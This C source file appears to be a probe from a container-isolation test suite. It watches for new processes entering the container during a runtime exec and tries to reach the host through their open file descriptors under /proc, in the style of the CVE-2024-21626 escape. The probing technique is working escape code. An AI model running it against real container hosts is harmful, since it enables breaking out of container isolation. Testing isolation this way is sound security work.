/* SPDX-License-Identifier: GPL-2.0-or-later */
/* CVE-2024-21626 class, from another process of the container: while the
 * runtime sets up an `exec`, its process sits in our pid namespace.  For
 * every new pid, list /proc/PID/fd (needs CAP_SYS_PTRACE of the initial
 * user namespace: the runtime is non-dumpable) and try to reach the host
 * through each handle: readlink, open, walk up with "..", search a
 * foreign procfs.
 *
 * Usage: fd_snoop SECONDS */
#include "common.h"

struct snoop
{
  long seen, denied, listed;
  char links[64][256];
  int nlinks;
};

/* Reports a kind of target once, not once per process: "pipe:[123]" and
 * "pipe:[456]" are the same kind. */
static bool
first_time (struct snoop *s, const char *link)
{
  int len = strcspn (link, "[");

  for (int i = 0; i < s->nlinks; i++)
    if (strncmp (s->links[i], link, len) == 0 && s->links[i][len] == '\0')
      return false;
  if (s->nlinks < 64)
    snprintf (s->links[s->nlinks++], sizeof s->links[0], "%.*s", len < 255 ? len : 255, link);
  return true;
}

static void
snoop_fd (struct snoop *s, pid_t pid, const char *num)
{
  char path[96], link[PATH_MAX], label[128];
  ssize_t n;
  int fd;

  snprintf (path, sizeof path, "/proc/%d/fd/%s", (int) pid, num);
  n = readlink (path, link, sizeof link - 1);
  if (n < 0)
    return;
  link[n] = '\0';
  if (!first_time (s, link))
    return;
  report ("fd_snoop: pid %d fd %s -> %s", (int) pid, num, link);
  fd = open (path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (fd < 0)
    return;
  snprintf (label, sizeof label, "fd_snoop: via /proc/%d/fd/%s", (int) pid, num);
  probe_dir (fd, label, false);
  close (fd);
}

static void
snoop_pid (pid_t pid, void *data)
{
  struct snoop *s = data;
  char path[64];
  struct dirent *d;
  DIR *dir;

  s->seen++;
  snprintf (path, sizeof path, "/proc/%d/fd", (int) pid);
  dir = opendir (path);
  if (dir == NULL)
    {
      if ((errno == EACCES || errno == EPERM) && s->denied++ < 3)
        report ("fd_snoop: list %s: %s", path, strerror (errno));
      return;
    }
  s->listed++;
  while ((d = readdir (dir)))
    if (d->d_name[0] != '.')
      snoop_fd (s, pid, d->d_name);
  closedir (dir);
}

int
main (int argc, char **argv)
{
  double deadline = now_s () + (argc > 1 ? atof (argv[1]) : 20);
  static struct snoop s;
  struct pid_watch w;

  if (pid_watch_init (&w) < 0)
    {
      report ("fd_snoop: cannot watch /proc: %s", strerror (errno));
      return 1;
    }
  report ("fd_snoop: ready (pid %d)", (int) getpid ());
  for (long i = 0; now_s () < deadline; i++)
    {
      pid_watch_scan (&w, snoop_pid, &s);
      if (i % 256 == 0 && stop_requested ())
        break;
    }
  report ("fd_snoop: done: %ld new pids, %ld fd lists denied, %ld listed", s.seen, s.denied, s.listed);
  return 0;
}
